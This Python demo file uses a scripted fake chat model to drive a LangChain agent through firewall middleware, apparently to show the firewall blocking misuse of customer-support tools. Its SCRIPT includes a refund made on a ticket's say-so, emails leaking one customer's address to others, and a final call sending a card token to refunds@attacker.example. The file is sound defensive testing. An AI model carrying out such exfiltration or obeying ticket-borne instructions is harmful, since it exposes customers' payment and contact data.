"""The demo agent: a scripted chat model (no LLM key) driving ``create_agent``."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from firewall.adapters.langchain import FirewallMiddleware
from langchain.agents import create_agent
from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.tools import BaseTool
from langgraph.graph.state import CompiledStateGraph

from firewall.gate import Firewall
from firewall.types import Principal, new_id

SCRIPT: tuple[tuple[str, dict[str, Any]], ...] = (
    ("crm_lookup", {"customer_id": "c-100"}),
    ("crm_lookup", {"customer_id": "c-900"}),
    ("issue_refund", {"order_id": "o-1", "amount": 25.0, "reason": "damaged item"}),
    ("issue_refund", {"order_id": "o-2", "amount": 450.0, "reason": "late delivery"}),
    ("charge_card", {"customer_id": "c-100", "amount": 99.0, "description": "express shipping"}),
    ("crm_lookup", {"customer_id": "c-100"}),
    ("crm_lookup", {"customer_id": "c-100"}),
    ("crm_lookup", {"customer_id": "c-100"}),
    ("read_ticket", {"ticket_id": "t-7"}),
    ("issue_refund", {"order_id": "o-1", "amount": 20.0, "reason": "as the ticket says"}),
    ("send_email", {"to": "$EMAIL:crm_lookup", "subject": "Your refund", "body": "On its way."}),
    (
        "send_email",
        {"to": "$EMAIL:read_ticket", "subject": "Record", "body": "Ada, $EMAIL:crm_lookup"},
    ),
    ("send_email", {"to": "refunds@attacker.example", "subject": "Card", "body": "$CARD"}),
)
"""The agent's turns. ``$EMAIL`` / ``$CARD`` stand for what the model last saw of that kind
in a tool's output (a token such as ``<EMAIL_3f9a0c1b2d4e>``), as a real model would copy it;
``$EMAIL:read_ticket`` for what it last saw of that kind in that tool's output."""

PRINCIPAL = Principal(
    agent_id="support-bot-1",
    tenant="acme",
    scopes=frozenset({"crm:read", "refunds:write", "tickets:read", "email:send"}),
    on_behalf_of="customer:c-100",
    requested_by="bob",
)


class ScriptedChatModel(GenericFakeChatModel):
    """langchain-core's fake chat model, able to stand in for a tool-calling model."""

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> ScriptedChatModel:
        return self

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        result = super()._generate(messages, stop, run_manager, **kwargs)
        message = result.generations[0].message
        if isinstance(message, AIMessage) and message.tool_calls:
            seen = _last_seen(messages)
            calls = [{**tc, "args": _filled(tc["args"], seen)} for tc in message.tool_calls]
            message = message.model_copy(update={"tool_calls": calls})
            result.generations[0] = ChatGeneration(message=message)
        return result


PLACEHOLDER = re.compile(r"\$(EMAIL|CARD|PHONE)(?::([a-z_]+))?")
SHOWN = re.compile(r"<(EMAIL|CARD|PHONE)_[0-9a-f]{12}>|\*{8,}\d{4}")


def _last_seen(messages: Sequence[BaseMessage]) -> dict[str, str]:
    """What the model last saw of each kind in tool output: a token, or a masked card.

    Keyed by kind (``EMAIL``), and by kind and tool (``EMAIL:read_ticket``).
    """
    seen: dict[str, str] = {}
    for message in messages:
        if isinstance(message, ToolMessage):
            for match in SHOWN.finditer(str(message.content)):
                kind = match.group(1) or "CARD"
                seen[kind] = seen[f"{kind}:{message.name}"] = match.group()
    return seen


def _filled(args: dict[str, Any], seen: dict[str, str]) -> dict[str, Any]:
    def fill(value: Any) -> Any:
        if isinstance(value, str):
            return PLACEHOLDER.sub(lambda m: seen.get(m.group().lstrip("$"), m.group()), value)
        return value

    return {key: fill(value) for key, value in args.items()}


def scripted_turns(script: Sequence[tuple[str, dict[str, Any]]]) -> list[AIMessage]:
    """One tool call per model turn, then a closing answer."""
    turns = [
        AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": new_id("call")}])
        for name, args in script
    ]
    turns.append(AIMessage(content="All requests handled."))
    return turns


def build_agent(
    firewall: Firewall, tools: Sequence[BaseTool], turns: Sequence[AIMessage]
) -> CompiledStateGraph[Any, Any, Any, Any]:
    """``create_agent`` with the firewall as middleware around every tool call."""
    model = ScriptedChatModel(messages=iter(turns))
    return create_agent(
        model, tools=list(tools), middleware=[FirewallMiddleware(firewall, PRINCIPAL)]
    )
